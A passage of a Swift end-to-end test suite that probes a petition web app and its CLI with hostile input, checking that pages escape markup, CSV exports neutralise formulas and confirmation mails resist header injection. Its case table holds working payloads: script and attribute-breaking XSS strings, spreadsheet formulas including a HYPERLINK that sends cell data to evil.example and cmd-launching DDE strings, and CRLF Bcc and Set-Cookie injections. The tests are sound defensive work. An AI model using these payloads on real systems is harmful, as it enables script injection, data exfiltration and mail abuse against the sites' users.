@testable import Campaign
import CampaignWeb
import Foundation
import Glibc
import Testing

/// Hostile input through the real server (HTTP over loopback) and the real
/// CLI, one row per case: markup and attribute breakers, spreadsheet
/// formulas, line breaks bound for mail headers, invalid UTF-8, NUL bytes,
/// overlong fields, huge numbers, ambiguous request framing, path
/// traversal, SQL metacharacters, malformed languages, forged CSRF tokens
/// and misused confirmation links. Each row states its answer; every row
/// also checks that nothing was lost or leaked: the signatures table grew by
/// exactly what the row expects, no table went missing, the request log
/// holds nothing that was typed, and `/healthz` still answers.
///
/// The rows share one server, one after another so that counts before and
/// after are exact. It runs on a copy of the demo data in which the DC
/// petition's English title carries a line break, a Bcc header and a script
/// tag (an organizer's mistake that must not reach a mail header or a page
/// unescaped), and in which the Seattle note needs no e-mail confirmation,
/// so its signatures are public and exported at once. Its mail goes to a
/// real SMTP server (`SMTPSink`).
@Suite(.serialized, .hostileSite) struct HostileInputTests {
    @Test(arguments: HostileInputTests.cases)
    func hostileInputGetsItsAnswerAndLosesOrLeaksNothing(_ hostile: HostileCase) async throws {
        let site = try Self.site()
        try await onThread { check in
            let server = site.server
            let tablesBefore = try Self.tables(server)
            let rowsBefore = try E2E.integer(server, "SELECT COUNT(*) FROM signatures")
            let outcome = try hostile.request.send(site, check)
            let what = hostile.name

            if let result = outcome.command {
                check.expect(Int(result.status) == hostile.expect.status, "\(what): exit \(result.status), expected \(hostile.expect.status): \(result.errors)")
            } else if hostile.expect.status == 0 {
                check.expect(outcome.responses.isEmpty && outcome.closed,
                             "\(what): expected no answer and a closed connection, got \(outcome.responses.map(\.summary)) (closed: \(outcome.closed))")
            } else {
                let first = try check.unwrap(outcome.responses.first, "\(what): no answer (closed: \(outcome.closed))")
                check.expect(first.status == hostile.expect.status, "\(what): status \(first.status), expected \(hostile.expect.status): \(first.summary)")
            }
            let answer = outcome.answerText
            for key in hostile.expect.messages {
                check.expect(answer.contains(E2E.html(key, "en")), "\(what): the answer does not say '\(E2E.t(key, "en"))'")
            }
            for (field, key) in hostile.expect.fieldErrors {
                check.expect(answer.contains("<span id=\"sign-\(field)-error\" class=\"error\">\(E2E.html(key, "en"))</span>"),
                             "\(what): no '\(E2E.t(key, "en"))' beside \(field)")
            }
            for text in hostile.expect.shows { check.expect(answer.contains(text), "\(what): the answer lacks '\(text)'") }
            for text in hostile.expect.never { check.expect(!answer.contains(text), "\(what): the answer holds '\(text)'") }
            for followUp in hostile.expect.then { try followUp.verify(outcome, site, what, check) }

            // Nothing lost: the table grew by what this row stored, and every table is still there.
            let rowsAfter = try E2E.integer(server, "SELECT COUNT(*) FROM signatures")
            check.expect(rowsAfter == rowsBefore + hostile.expect.stored, "\(what): signatures went from \(rowsBefore) to \(rowsAfter), expected +\(hostile.expect.stored)")
            check.expect(try Self.tables(server) == tablesBefore, "\(what): the tables changed")
            // Still serving.
            let health = try server.client().get("/healthz")
            check.expect(health.status == 200 && health.text == "ok\n", "\(what): /healthz afterwards: \(health.summary)")
            // Nothing leaked into the log so far; the log is written a few times a second, so
            // the whole of it is checked again once the server has stopped (`leaksInTheLog`).
            site.typed.withLock { $0.append((what, outcome.typed)) }
            for leak in site.leaksInTheLog() { check.fail(leak) }
        }
    }

    // MARK: - The site under attack

    /// The server, its mail sink, and what the rows typed.
    final class Site: @unchecked Sendable {
        let server: ServerProcess
        let sink: SMTPSink
        /// What each row typed that was personal: name, e-mail, reason.
        let typed = Locked<[(row: String, typed: [String])]>([])

        init(server: ServerProcess, sink: SMTPSink) {
            self.server = server
            self.sink = sink
        }

        /// Log lines holding something a row typed.
        func leaksInTheLog() -> [String] {
            let rows = typed.withLock { $0 }
            return server.log.flatMap { line in
                rows.flatMap { row in row.typed.filter { line.contains($0) }.map { "\(row.row): the log holds '\($0)': \(line)" } }
            }
        }
    }

    @TaskLocal static var running: Site?

    static func site() throws -> Site {
        guard let running else { throw HTTPTestError.malformed("the hostile site is not running (run through HostileInputTests)") }
        return running
    }

    /// The DC petition's English title as the hostile data has it.
    static let hostileTitle = "Mayor Bowser\r\nBcc: leak@evil.example\r\n\r\n<script>alert(1)</script>"

    /// A copy of the demo data with the hostile DC title and a Seattle note that needs no confirmation.
    static func hostileData() throws -> String {
        let folder = TestSupport.temporaryFolder() + "/data"
        try FileManager.default.copyItem(atPath: TestSupport.dataFolder, toPath: folder)
        func edit(_ slug: String, _ from: String, _ to: String) throws {
            let toml = folder + "/campaigns/\(slug)/campaign.toml"
            let text = try String(contentsOfFile: toml, encoding: .utf8)
            guard text.contains(from) else { throw HTTPTestError.malformed("no '\(from)' in \(toml)") }
            try text.replacingOccurrences(of: from, with: to).write(toFile: toml, atomically: false, encoding: .utf8)
        }
        try edit(E2E.dc, "en = \"Mayor Bowser: Protect DC residents from ICE raids!\"", "en = \"Mayor Bowser\\r\\nBcc: leak@evil.example\\r\\n\\r\\n<script>alert(1)</script>\"")
        try edit(E2E.seattle, "confirm_email = true", "confirm_email = false")
        return folder
    }

    /// The database's tables, to see that none was dropped.
    static func tables(_ server: ServerProcess) throws -> [String] {
        try E2E.rows(server, "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").compactMap { $0["name"] as String? }
    }
}

/// Starts the sink and the server on the hostile data before the suite, and stops them after.
struct HostileSiteTrait: SuiteTrait, TestScoping {
    var isRecursive: Bool { false }

    func provideScope(for test: Test, testCase: Test.Case?, performing function: @Sendable () async throws -> Void) async throws {
        let site = try await onThread { _ in
            let sink = try SMTPSink()
            // All rows come from 127.0.0.1: a high signing limit keeps the rate limit out of the way.
            let server = try ServerProcess.start(["--smtp-url", sink.url, "--mail-from", "Campaign <act@example.org>", "--sign-limit", "1000"],
                                                 data: try HostileInputTests.hostileData())
            return HostileInputTests.Site(server: server, sink: sink)
        }
        defer { site.sink.stop() }
        do {
            try await HostileInputTests.$running.withValue(site) { try await function() }
        } catch {
            _ = try? await onThread { _ in site.server.stop(timeout: 10) }
            throw error
        }
        let stop = try await onThread { _ in site.server.stop(timeout: 10) }
        #expect(stop.exit == .success, "the hostile site's server: \(stop.exit)")
        // Stopping flushed the request log: all of it now holds nothing any row typed.
        for leak in site.leaksInTheLog() { Issue.record(Comment(rawValue: leak)) }
    }
}

extension Trait where Self == HostileSiteTrait {
    static var hostileSite: Self { Self() }
}

// MARK: - The table's parts

extension HostileInputTests {
    /// One hostile request and what it must get.
    struct HostileCase: Sendable, CustomTestStringConvertible {
        let name: String
        let request: Probe
        let expect: Expectation
        var testDescription: String { name }

        init(_ name: String, _ request: Probe, _ expect: Expectation) {
            self.name = name
            self.request = request
            self.expect = expect
        }
    }

    /// What a supporter types into the sign form.
    struct Signer: Sendable {
        var name = "Ana Prueba"
        /// Nil: a fresh address of its own.
        var email: String?
        var zip = "98104"
        var reason = ""
        var consent = ["public"]
    }

    /// The CSRF token a signing row sends.
    enum FormToken: Sendable {
        /// The one its session's page gave.
        case own
        /// Random bytes in the token's shape.
        case forged
        /// A real token, from another session.
        case otherSession
        case missing
    }

    /// Ways to misuse the confirmation link of a DC signature.
    enum ConfirmationMisuse: Sendable {
        /// The link, followed once and then again.
        case replayed
        /// The link's token, sent to another campaign.
        case otherCampaign
        /// A token nobody was given.
        case forged(String)
    }

    /// How a row reaches the site.
    enum Probe: Sendable {
        /// A GET with extra headers.
        case get(String, headers: [(String, String)] = [])
        /// The sign form of a petition, opened first for a session (in English).
        case sign(String, Signer, token: FormToken = .own)
        /// A POST body as bytes, form-encoded; `{csrf}` becomes a valid token.
        case post(String, body: [UInt8])
        /// Bytes straight onto a new connection; every answer is read.
        case wire([UInt8])
        /// A confirmation link misused.
        case confirmation(ConfirmationMisuse)
        /// The `campaign` CLI on the server's database, in a new folder
        /// `{root}` that holds an empty folder `{inner}`; `{out}` is a file
        /// in `{root}`.
        case cli([String])
    }

    /// What a row must get, besides the invariants every row checks.
    struct Expectation: Sendable {
        /// The first answer's HTTP status, 0 for a connection closed without
        /// an answer, or the CLI's exit status.
        var status: Int
        /// Catalog messages (English) the answer shows.
        var messages: [String] = []
        /// The error beside each sign form field: field → catalog key.
        var fieldErrors: [String: String] = [:]
        /// Text the answer holds (for the CLI, its standard error).
        var shows: [String] = []
        /// Text that appears nowhere in the answer, headers included (for the CLI, in neither output).
        var never: [String] = []
        /// Rows added to `signatures`.
        var stored = 0
        var then: [FollowUp] = []
    }

    /// What a row sent and got.
    struct Outcome {
        var responses: [HTTPResponse] = []
        /// Whether the server closed the connection (`.wire` rows).
        var closed = false
        var command: TestSupport.CommandResult?
        /// The signer of a signing or confirmation row.
        var signer: (name: String, email: String)?
        /// The DC petition's count before a confirmation row.
        var countBefore = 0
        /// The folder of a CLI row's `{root}`.
        var folder: String?
        /// Personal data sent: it must never reach the log.
        var typed: [String] = []

        /// The answers' headers and bodies, or the CLI's outputs, as one text.
        var answerText: String {
            if let command { return command.output + "\n" + command.errors }
            return responses.map { response in
                response.headers.map { "\($0.name): \($0.value)" }.joined(separator: "\n") + "\n\n" + response.text
            }.joined(separator: "\n")
        }
    }
}

// MARK: - Sending

extension HostileInputTests.Probe {
    func send(_ site: HostileInputTests.Site, _ check: Checks) throws -> HostileInputTests.Outcome {
        let server = site.server
        var outcome = HostileInputTests.Outcome()
        switch self {
        case .get(let target, let headers):
            outcome.responses = [try server.client().get(target, headers: headers)]

        case .sign(let slug, let signer, let kind):
            let client = server.client()
            let own = try E2E.openForm(client, slug, "en", check)
            let token: String? = switch kind {
            case .own: own
            case .forged: Base64URL.encode(SecureRandom.bytes(32))
            case .otherSession: try E2E.openForm(server.client(), slug, "en", check)
            case .missing: nil
            }
            let email = signer.email ?? E2E.uniqueEmail("hostile")
            outcome.signer = (signer.name, email)
            outcome.typed = [signer.name, email, signer.reason].map(\.trimmedWhitespace).filter { $0.count >= 4 }
            outcome.responses = [try client.post("/c/\(slug)/sign", form: E2E.signature(
                token: token, name: signer.name, email: email, zip: signer.zip, reason: signer.reason, consent: signer.consent, language: "en"))]

        case .post(let target, let body):
            let client = server.client()
            // A form's token is for its own campaign: the one posted to, when it is one.
            let posted = target.hasPrefix("/c/") ? String(target.dropFirst(3).prefix { $0 != "/" && $0 != "?" }) : ""
            let token = Array(try E2E.openForm(client, E2E.slugs.contains(posted) ? posted : E2E.seattle, "en", check).utf8)
            // The e-mail and name, where they are text, are personal data the log must not hold.
            outcome.typed = body.split(separator: UInt8(ascii: "&")).compactMap { pair -> String? in
                guard let text = String(validating: pair, as: UTF8.self), text.hasPrefix("email=") || text.hasPrefix("name=") else { return nil }
                return text.split(separator: "=", maxSplits: 1).last.flatMap { String($0).removingPercentEncoding }
            }.filter { $0.count >= 4 }
            outcome.responses = [try client.post(target, body: Self.replacing(Array("{csrf}".utf8), with: token, in: body))]

        case .wire(let bytes):
            let connection = try HTTPConnection(port: server.port, timeout: 5)
            // The server may close before taking every byte.
            try? connection.send(bytes)
            if let first = try? connection.readResponse() {
                outcome.responses.append(first)
                // A second answer here would be a request smuggled in the first one's body.
                outcome.closed = connection.waitForClose(seconds: 1)
                while !connection.unread.isEmpty, let next = try? connection.readResponse() { outcome.responses.append(next) }
            } else {
                outcome.closed = connection.waitForClose(seconds: 1) || !connection.isOpen
            }
            connection.close()

        case .confirmation(let misuse):
            let dc = try E2E.campaignID(server, E2E.dc)
            outcome.countBefore = try E2E.integer(server, "SELECT COALESCE((SELECT count FROM signature_counts WHERE campaign_id = ?), 0)", [dc])
            let path: String
            switch misuse {
            case .forged(let token):
                path = "/c/\(E2E.dc)/confirm?token=" + HTTPTestClient.percentEncode(token)
            case .replayed, .otherCampaign:
                let email = E2E.uniqueEmail("confirm")
                outcome.signer = ("Conf Irma", email)
                outcome.typed = [email]
                let link = try Self.signAndReadLink(site, name: "Conf Irma", email: email, check)
                if case .replayed = misuse {
                    let first = try server.client().get(link)
                    check.expect(first.status == 200 && first.text.contains(E2E.html("confirm.done", "en")), "the first use of the link: \(first.summary)")
                    path = link
                } else {
                    path = link.replacingOccurrences(of: "/c/\(E2E.dc)/", with: "/c/\(E2E.seattle)/")
                }
            }
            outcome.responses = [try server.client().get(path)]

        case .cli(let arguments):
            let root = TestSupport.temporaryFolder()
            try FileManager.default.createDirectory(atPath: root + "/inner", withIntermediateDirectories: false)
            outcome.folder = root
            let filled = arguments.map {
                $0.replacingOccurrences(of: "{out}", with: root + "/export.out").replacingOccurrences(of: "{inner}", with: root + "/inner")
                    .replacingOccurrences(of: "{root}", with: root)
            }
            outcome.command = try TestSupport.campaign(filled, database: server.databasePath)
        }
        return outcome
    }

    /// Signs the DC petition in English and returns the path of the link its confirmation mail carries.
    static func signAndReadLink(_ site: HostileInputTests.Site, name: String, email: String, _ check: Checks) throws -> String {
        let client = site.server.client()
        let token = try E2E.openForm(client, E2E.dc, "en", check)
        let signed = try client.post("/c/\(E2E.dc)/sign", form: E2E.signature(token: token, name: name, email: email, zip: "20001", language: "en"))
        try check.require(signed.status == 303, "signing for a confirmation link: \(signed.summary)")
        let mail = try check.unwrap(try HostileInputTests.FollowUp.mail(to: email, site), "no confirmation mail for \(email)")
        let text = try MailMessageTests.decode(mail.data).parts.first?.text ?? ""
        let link = try check.unwrap(E2E.between(text, "http://", "\r\n"), "no link in: \(text)")
        return try check.unwrap(link.firstIndex(of: "/").map { String(link[$0...]) }, "no path in \(link)")
    }

    static func replacing(_ placeholder: [UInt8], with replacement: [UInt8], in bytes: [UInt8]) -> [UInt8] {
        guard let at = HTTPConnection.find(placeholder, in: bytes) else { return bytes }
        return Array(bytes[..<at]) + replacement + Array(bytes[(at + placeholder.count)...])
    }
}

// MARK: - Follow-up checks

extension HostileInputTests {
    /// Checks beyond the answer itself.
    enum FollowUp: Sendable {
        /// The signer's first name and reason are escaped on the public
        /// reasons page and the campaign page, and their name in the CLI's
        /// HTML packet; the JSON export gives back exactly what was typed.
        case escapedEverywhere
        /// In the CLI's CSV export, the signer's name and reason cells start
        /// with an apostrophe, so no spreadsheet runs them as formulas.
        case csvNeutralised
        /// Stored exactly as typed (trimmed), SQL metacharacters and all.
        case storedVerbatim
        /// The confirmation mail reached the signer alone, every header is
        /// one the composer wrote, and its subject reads `subject`.
        case mailHeadersSafe(subject: String)
        /// No mail was queued for the signer.
        case noMail
        /// The connection was closed after the answer.
        case connectionClosed
        /// Exactly this many answers came back on the connection.
        case answers(Int)
        /// No request with this path reached the app.
        case neverLogged(String)
        /// The page is in this language and sets no language cookie.
        case language(String)
        /// The confirmation counted once, and the signature is confirmed.
        case countedOnce
        /// The signature is still waiting for its confirmation.
        case stillPending
        /// The CLI wrote nothing in `{root}`: no `{out}` file, no partial
        /// file beside it, nothing in `{inner}` or beside it.
        case nothingWritten

        /// The first mail the sink received for `email`, waiting up to 10 s.
        static func mail(to email: String, _ site: Site, timeout: Double = 10) throws -> SMTPSink.ReceivedMail? {
            let deadline = Date().addingTimeInterval(timeout)
            while Date() < deadline {
                if let mail = try site.sink.messages().first(where: { $0.recipients.contains(email) }) { return mail }
                usleep(50_000)
            }
            return nil
        }

        /// The display name of a decoded `To` header for `email`, unquoted.
        static func displayName(_ to: String, email: String) -> String {
            var name = to.hasSuffix("<\(email)>") ? String(to.dropLast(email.count + 2)).trimmingCharacters(in: .whitespaces) : to
            if name.hasPrefix("\""), name.hasSuffix("\""), name.count >= 2 {
                var unquoted = ""
                var escaped = false
                for character in name.dropFirst().dropLast() {
                    if !escaped && character == "\\" { escaped = true; continue }
                    unquoted.append(character)
                    escaped = false
                }
                name = unquoted
            }
            return name
        }

        func verify(_ outcome: Outcome, _ site: Site, _ what: String, _ check: Checks) throws {
            let server = site.server
            switch self {
            case .escapedEverywhere:
                let (name, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                let row = try check.unwrap(try E2E.rows(server, "SELECT name, reason FROM signatures WHERE canonical_email = ?", [CanonicalEmail.of(email)]).first,
                                           "\(what): not stored")
                let reason: String = row["reason"] ?? ""
                let firstName = name.split(separator: " ").first.map(String.init) ?? ""
                let raw = [firstName, reason].filter { $0.contains { "<>\"'".contains($0) } }
                try check.require(!raw.isEmpty, "\(what): nothing in the name or reason needs escaping")
                // The first page of reasons is cached for two seconds.
                var reasons = try server.client().get("/c/\(E2E.seattle)/reasons?lang=en")
                let deadline = Date().addingTimeInterval(4)
                while !reasons.text.contains(HTMLEscaping.escape(reason)), Date() < deadline {
                    usleep(200_000)
                    reasons = try server.client().get("/c/\(E2E.seattle)/reasons?lang=en")
                }
                let campaign = try server.client().get("/c/\(E2E.seattle)?lang=en")
                for (label, page) in [("reasons page", reasons), ("campaign page", campaign)] {
                    check.expect(page.text.contains(HTMLEscaping.escape(firstName)) && page.text.contains(HTMLEscaping.escape(reason)),
                                 "\(what): the \(label) does not show the escaped name and reason")
                    for text in raw { check.expect(!page.text.contains(text), "\(what): the \(label) holds '\(text)' unescaped") }
                }
                let packet = try TestSupport.campaign(["export", E2E.seattle, "--all", "--format", "html"], database: server.databasePath)
                check.expect(packet.status == 0 && packet.output.contains(HTMLEscaping.escape(name)), "\(what): the HTML packet lacks the escaped name: \(packet.errors)")
                for text in [name, reason] where text.contains(where: { "<>\"'".contains($0) }) {
                    check.expect(!packet.output.contains(text), "\(what): the HTML packet holds '\(text)' unescaped")
                }
                let json = try TestSupport.campaign(["export", E2E.seattle, "--all", "--format", "json"], database: server.databasePath)
                let object = try JSONSerialization.jsonObject(with: Data(json.output.utf8)) as? [String: Any]
                let signers = object?["signers"] as? [[String: Any]] ?? []
                let entry = signers.first { $0["email"] as? String == email }
                check.expect(entry?["name"] as? String == name && entry?["reason"] as? String == reason,
                             "\(what): the JSON export does not give back what was typed: \(String(describing: entry))")

            case .csvNeutralised:
                let (_, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                let row = try check.unwrap(try E2E.rows(server, "SELECT name, reason FROM signatures WHERE canonical_email = ?", [CanonicalEmail.of(email)]).first,
                                           "\(what): not stored")
                let csv = try TestSupport.campaign(["export", E2E.seattle, "--all"], database: server.databasePath)
                try check.require(csv.status == 0, "\(what): export: \(csv.errors)")
                let records = try CSVReader(bytes: Array(csv.output.utf8), file: "export.csv").records().map { $0.fields.map(\.value) }
                let header = try check.unwrap(records.first, "\(what): an empty export")
                let columns = try ["name", "email", "reason"].map { column in try check.unwrap(header.firstIndex(of: column), "\(what): no \(column) column in \(header)") }
                let record = try check.unwrap(records.first { $0.count == header.count && $0[columns[1]] == email }, "\(what): the signer is not in the export")
                // The file holds each cell quoted behind an apostrophe; CSVReader takes the apostrophe off again.
                for (cell, stored) in [(record[columns[0]], row["name"] as String? ?? ""), (record[columns[2]], row["reason"] as String? ?? "")] {
                    let neutralised = "\"'" + stored.replacingOccurrences(of: "\"", with: "\"\"") + "\""
                    check.expect(csv.output.contains(neutralised), "\(what): the export does not hold '\(stored)' as \(neutralised)")
                    check.expect(cell == stored, "\(what): the cell '\(cell)' does not read back as '\(stored)'")
                }

            case .storedVerbatim:
                let (name, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                let rows = try E2E.rows(server, "SELECT name, email FROM signatures WHERE canonical_email = ?", [CanonicalEmail.of(email)])
                check.expect(rows.count == 1 && rows.first?["name"] as String? == name.trimmedWhitespace && rows.first?["email"] as String? == email,
                             "\(what): stored as \(rows.map { ($0["name"] as String? ?? "", $0["email"] as String? ?? "") })")

            case .mailHeadersSafe(let subject):
                let (name, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                let mail = try check.unwrap(try Self.mail(to: email, site), "\(what): no confirmation mail")
                check.expect(mail.recipients == [email], "\(what): the mail went to \(mail.recipients)")
                check.expect(try site.sink.messages().allSatisfy { !$0.recipients.contains { $0.contains("evil.example") } }, "\(what): mail reached evil.example")
                let decoded = try MailMessageTests.decode(mail.data)
                let composed: Set<String> = ["from", "to", "reply-to", "subject", "date", "message-id", "mime-version", "content-type",
                                             "content-transfer-encoding", "list-unsubscribe", "list-unsubscribe-post", "auto-submitted"]
                for header in decoded.headers where !composed.contains(header.name.lowercased()) {
                    check.fail("\(what): a header the composer does not write: \(header.name): \(header.value)")
                }
                check.expect(decoded.headers.filter { $0.name.lowercased() == "to" }.count == 1, "\(what): not one To header")
                check.expect(decoded.decoded("To")?.hasSuffix("<\(email)>") == true, "\(what): To is \(decoded.decoded("To") ?? "missing")")
                check.expect(Self.displayName(decoded.decoded("To") ?? "", email: email) == MailHeaderWriter.sanitized(name),
                             "\(what): the To display name is \(decoded.decoded("To") ?? "missing"), expected \(MailHeaderWriter.sanitized(name))")
                check.expect(decoded.decoded("Subject") == subject, "\(what): Subject \(decoded.decoded("Subject") ?? "missing")")

            case .noMail:
                let (_, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                check.expect(try E2E.integer(server, "SELECT COUNT(*) FROM signatures WHERE email = ? AND confirmation_mail IS NOT NULL", [email]) == 0,
                             "\(what): a confirmation waits to be mailed")
                check.expect(try E2E.queuedMail(server, to: email) == 0, "\(what): mail was queued")

            case .connectionClosed:
                check.expect(outcome.closed, "\(what): the connection stayed open")

            case .answers(let count):
                check.expect(outcome.responses.count == count, "\(what): \(outcome.responses.count) answers: \(outcome.responses.map(\.summary))")

            case .neverLogged(let path):
                check.expect(!server.log.contains { $0.contains(path) }, "\(what): a request for \(path) was served")

            case .language(let language):
                let page = try check.unwrap(outcome.responses.first, "\(what): no answer")
                check.expect(page.text.contains("<html lang=\"\(language)\" dir=\"ltr\">"), "\(what): not in \(language)")
                check.expect(!page.setCookies.contains { $0.hasPrefix("lang=") }, "\(what): a language cookie: \(page.setCookies)")

            case .countedOnce:
                let (_, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                let dc = try E2E.campaignID(server, E2E.dc)
                check.expect(try E2E.integer(server, "SELECT count FROM signature_counts WHERE campaign_id = ?", [dc]) == outcome.countBefore + 1,
                             "\(what): the count did not move by exactly one")
                check.expect(try E2E.integer(server, "SELECT COUNT(*) FROM signatures WHERE canonical_email = ? AND state = 'validated'",
                                             [CanonicalEmail.of(email)]) == 1, "\(what): not confirmed")

            case .stillPending:
                let (_, email) = try check.unwrap(outcome.signer, "\(what): no signer")
                check.expect(try E2E.integer(server, "SELECT COUNT(*) FROM signatures WHERE canonical_email = ? AND state = 'pending'",
                                             [CanonicalEmail.of(email)]) == 1, "\(what): no longer pending")
                let dc = try E2E.campaignID(server, E2E.dc)
                check.expect(try E2E.integer(server, "SELECT COALESCE((SELECT count FROM signature_counts WHERE campaign_id = ?), 0)", [dc]) == outcome.countBefore,
                             "\(what): the count moved")

            case .nothingWritten:
                let root = try check.unwrap(outcome.folder, "\(what): not a CLI row")
                let written = ((try? FileManager.default.subpathsOfDirectory(atPath: root)) ?? []).filter { $0 != "inner" }
                check.expect(written.isEmpty, "\(what): wrote \(written) in \(root)")
            }
        }
    }
}

// MARK: - The table

extension HostileInputTests {
    typealias Case = HostileCase

    static let script = "<script>alert("
    static let sign = "/c/\(E2E.seattle)/sign"
    static let signHead = "POST \(sign) HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    static let escapedTitle = "Mayor Bowser\r\nBcc: leak@evil.example\r\n\r\n&lt;script&gt;alert(1)&lt;/script&gt;"
    /// The confirmation subject with the hostile title: its line breaks made spaces.
    static let dcSubject = "Confirm your signature: Mayor Bowser Bcc: leak@evil.example <script>alert(1)</script>"

    static func bytes(_ text: String) -> [UInt8] { Array(text.utf8) }

    static let cases: [HostileCase] = markup + formulas + mailHeaders + encodings + sizes + numbers + framing + traversal
        + sql + languages + forgedTokens + confirmations

    /// Script tags and attribute breakers in names and reasons, and in a campaign title.
    static let markup: [Case] = [
        Case("script tags in a public name and reason", .sign(E2E.seattle, Signer(name: "\"><script>alert(1)</script>", reason: "</textarea><script>alert(2)</script>")),
             Expectation(status: 303, stored: 1, then: [.escapedEverywhere])),
        Case("attribute breakers in a public name and reason", .sign(E2E.seattle, Signer(name: "Zoe' onmouseover='alert(3)", reason: "\"><img src=x onerror=alert(4)> & 'more'")),
             Expectation(status: 303, stored: 1, then: [.escapedEverywhere])),
        Case("a script tag in a name comes back escaped in the re-rendered form",
             .sign(E2E.dc, Signer(name: "\"><script>alert(5)</script>", email: "not-an-address")),
             Expectation(status: 422, fieldErrors: ["email": "error.email.invalid"],
                         shows: ["value=\"&quot;&gt;&lt;script&gt;alert(5)&lt;/script&gt;\""], never: ["\"><script>", script + "5"])),
        Case("an attribute breaker in a name comes back escaped in the re-rendered form",
             .sign(E2E.dc, Signer(name: "x' onmouseover='alert(6)", zip: "9810")),
             Expectation(status: 422, fieldErrors: ["zip": "error.zip.invalid"], shows: ["value=\"x&#39; onmouseover=&#39;alert(6)\""], never: ["' onmouseover="])),
        Case("a closing textarea in a reason stays inside the re-rendered textarea",
             .sign(E2E.dc, Signer(email: "still-not-an-address", reason: "</textarea><script>alert(7)</script>")),
             Expectation(status: 422, fieldErrors: ["email": "error.email.invalid"], shows: [">&lt;/textarea&gt;&lt;script&gt;alert(7)&lt;/script&gt;</textarea>"],
                         never: [script + "7"])),
        Case("a script tag in ?name= is escaped on the call page", .get("/c/\(E2E.tacoma)?lang=en&zip=98405&district=2&name=%22%3E%3Cscript%3Ealert(8)%3C/script%3E"),
             Expectation(status: 200, shows: ["&quot;&gt;&lt;script&gt;alert(8)"], never: [script + "8", "\"><script>"])),
        Case("a script tag in a campaign title is escaped on its page", .get("/c/\(E2E.dc)?lang=en"),
             Expectation(status: 200, shows: ["<h1>" + escapedTitle + "</h1>"], never: [script + "1"])),
        Case("a script tag in a campaign title is escaped on its thank-you page", .get("/c/\(E2E.dc)/thanks?lang=en"),
             Expectation(status: 200, messages: ["petition.thanks"], shows: ["&lt;script&gt;alert(1)&lt;/script&gt;"], never: [script + "1"])),
        Case("a script tag in a campaign title is escaped on its reasons page", .get("/c/\(E2E.dc)/reasons?lang=en"),
             Expectation(status: 200, shows: ["&lt;script&gt;alert(1)&lt;/script&gt;"], never: [script + "1"])),
    ]

    /// Cells a spreadsheet would run, on their way into `campaign export`.
    static let formulas: [Case] = [
        Case("=HYPERLINK and + in a name and reason", .sign(E2E.seattle, Signer(name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", reason: "+cmd|' /C calc'!A0")),
             Expectation(status: 303, stored: 1, then: [.csvNeutralised])),
        Case("- and @ in a name and reason", .sign(E2E.seattle, Signer(name: "-2+3+cmd|' /C calc'!A0", reason: "@SUM(1+1)*cmd|' /C calc'!A0")),
             Expectation(status: 303, stored: 1, then: [.csvNeutralised])),
        Case("a tab and a carriage return before formulas", .sign(E2E.seattle, Signer(name: "\t=1+2", reason: "\r=1+2\r\n=3+4"))
             , Expectation(status: 303, stored: 1, then: [.csvNeutralised])),
    ]

    /// Line breaks and addresses bound for the confirmation mail's headers.
    static let mailHeaders: [Case] = [
        Case("CRLF and a Bcc header in a signer's name", .sign(E2E.dc, Signer(name: "Ana\r\nBcc: leak@evil.example", zip: "20001")),
             Expectation(status: 422, fieldErrors: ["name": "error.name.invalid"], then: [.noMail])),
        Case("a bare LF in a signer's name", .sign(E2E.dc, Signer(name: "Ana\nBcc: leak@evil.example", zip: "20001")),
             Expectation(status: 422, fieldErrors: ["name": "error.name.invalid"], then: [.noMail])),
        Case("a Unicode line separator and a Bcc header in a signer's name", .sign(E2E.dc, Signer(name: "Ana\u{2028}Bcc: leak@evil.example", zip: "20001")),
             Expectation(status: 303, stored: 1, then: [.mailHeadersSafe(subject: dcSubject)])),
        Case("an address and quotes in a signer's name", .sign(E2E.dc, Signer(name: "Eve <leak@evil.example>, \"Bob\"", zip: "20001")),
             Expectation(status: 303, stored: 1, then: [.mailHeadersSafe(subject: dcSubject)])),
        Case("CRLF and a Bcc header in the e-mail address", .sign(E2E.dc, Signer(email: "ana@example.org\r\nBcc: leak@evil.example", zip: "20001")),
             Expectation(status: 422, fieldErrors: ["email": "error.email.invalid"])),
        Case("a second address in the e-mail field", .sign(E2E.dc, Signer(email: "ana@example.org>, <leak@evil.example", zip: "20001")),
             Expectation(status: 422, fieldErrors: ["email": "error.email.invalid"])),
        Case("CRLF and a header in a call report's name, into the Location header",
             .post("/c/\(E2E.tacoma)/call", body: bytes("csrf={csrf}&target=wa-jay-inslee&outcome=reached&zip=98405&name=Ana%0D%0ASet-Cookie:%20injected=1")),
             Expectation(status: 303, shows: ["Location: /c/\(E2E.tacoma)?lang=en&reported=1&zip=98405&name=Ana%0D%0ASet%2DCookie%3A%20injected%3D1#calls"],
                         never: ["injected=1", "\nSet-Cookie: injected"])),
        Case("CRLF and a Bcc header in the campaign title, into the subject", .sign(E2E.dc, Signer(name: "Tí Tulo", zip: "20001")),
             Expectation(status: 303, stored: 1, then: [.mailHeadersSafe(subject: dcSubject)])),
    ]

    /// Bytes that are not text: invalid UTF-8 and NUL in bodies, queries and paths.
    static let encodings: [Case] = [
        Case("invalid UTF-8 in a form body", .post(sign, body: bytes("csrf={csrf}&name=%FF%FE&email=enc1@example.org&zip=98104")),
             Expectation(status: 400, messages: ["error.form"])),
        Case("a raw invalid byte in a form body", .post(sign, body: bytes("csrf={csrf}&name=") + [0xC3, 0x28] + bytes("&email=enc2@example.org&zip=98104")),
             Expectation(status: 400, messages: ["error.form"])),
        Case("an overlong UTF-8 slash in a form body", .post(sign, body: bytes("csrf={csrf}&name=%C0%AF&email=enc3@example.org&zip=98104")),
             Expectation(status: 400, messages: ["error.form"])),
        Case("a NUL byte in a name", .post(sign, body: bytes("csrf={csrf}&name=Ana%00Bell&email=enc4@example.org&zip=98104")),
             Expectation(status: 400, messages: ["error.form"])),
        Case("a raw NUL byte in a form body", .post(sign, body: bytes("csrf={csrf}&name=Ana") + [0] + bytes("Bell&email=enc5@example.org&zip=98104")),
             Expectation(status: 400, messages: ["error.form"])),
